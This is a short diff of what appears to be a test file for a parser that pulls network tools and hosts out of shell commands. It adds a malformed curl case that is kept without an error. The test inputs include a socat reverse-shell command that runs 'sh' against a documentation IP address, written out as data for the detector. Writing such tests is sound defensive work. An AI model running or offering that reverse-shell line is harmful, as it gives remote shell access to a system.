@@ -175,6 +175,7 @@ def test_a_bad_table_entry_is_refused_at_load() -> None:
     ("scp f.tgz ops@host.example:/tmp", [("scp", "", ("host.example",))]),
     ("socat TCP:203.0.113.4:9 EXEC:sh", [("socat", "", ("203.0.113.4:9",))]),
     ("curl <dynamic>", [("curl", "", ("<dynamic>",))]),
+    ("curl http://[::1", [("curl", "", ("http://[::1",))]),     # malformed: kept, never a traceback
     ("echo curl https://x.example", []),
     ("cu<dynamic> https://x.example", []),
     ("iwr http://x.example", []),                     # a powershell alias outside powershell
